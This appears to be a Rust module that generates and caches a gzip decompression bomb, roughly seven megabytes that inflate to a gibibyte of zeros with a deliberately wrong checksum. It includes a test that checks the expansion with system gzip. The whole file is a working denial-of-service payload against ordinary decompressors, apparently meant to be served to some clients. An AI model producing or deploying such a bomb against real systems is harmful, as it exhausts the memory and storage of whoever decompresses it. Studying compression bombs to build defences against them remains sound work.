//! A gibibyte of zeros as seven megabytes of gzip (RFC 1951, RFC 1952).

use std::sync::OnceLock;

use bytes::Bytes;

/// The bomb, made once.
pub(crate) fn gibibyte() -> Bytes {
    static BOMB: OnceLock<Bytes> = OnceLock::new();
    BOMB.get_or_init(|| gzip(1 << 30).into()).clone()
}

/// A gzip member whose one block repeats a zero, 258 at a time. Its checksum is wrong, which nobody learns who has not read
/// the gibibyte.
fn gzip(decompressed: u64) -> Vec<u8> {
    let mut bits = Bits {
        bytes: vec![0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 255],
        used: 8,
    };
    // The last block, with the fixed codes.
    bits.push(0b1, 1);
    bits.push(0b01, 2);
    // The literal 0, then `length 258, distance 1` over and over, then the end of the block.
    bits.code(0b0011_0000, 8);
    for _ in 0..decompressed / 258 {
        bits.code(0b1100_0101, 8);
        bits.code(0b0_0000, 5);
    }
    bits.code(0, 7);
    let mut bytes = bits.bytes;
    bytes.extend([0; 8]);
    bytes
}

/// Bits, lowest first.
struct Bits {
    bytes: Vec<u8>,
    /// How many bits of the last byte are taken.
    used: u32,
}

impl Bits {
    fn push(&mut self, value: u32, count: u32) {
        for at in 0..count {
            if self.used == 8 {
                self.bytes.push(0);
                self.used = 0;
            }
            let bit = u8::from(value >> at & 1 == 1);
            if let Some(last) = self.bytes.last_mut() {
                *last |= bit << self.used;
            }
            self.used += 1;
        }
    }

    /// Huffman codes are written highest bit first.
    fn code(&mut self, value: u32, count: u32) {
        self.push(value.reverse_bits() >> (32 - count), count);
    }
}

#[cfg(test)]
mod tests {
    use std::io::{Read as _, Write as _};
    use std::process::{Command, Stdio};

    use super::*;

    #[test]
    fn it_is_small_and_becomes_large() {
        let bomb = gzip(1 << 30);
        assert!(bomb.len() < 8 << 20, "{}", bomb.len());
        let mut gzip = Command::new("gzip")
            .arg("-dc")
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .stderr(Stdio::null())
            .spawn()
            .unwrap();
        let mut input = gzip.stdin.take().unwrap();
        let writing = std::thread::spawn(move || input.write_all(&super::gzip(10 << 20)));
        let mut decompressed = Vec::new();
        gzip.stdout.take().unwrap().read_to_end(&mut decompressed).unwrap();
        // It complains of the checksum at the end, after all that it gave.
        gzip.wait().unwrap();
        drop(writing.join());
        assert!(decompressed.len() > 9 << 20, "{}", decompressed.len());
    }
}
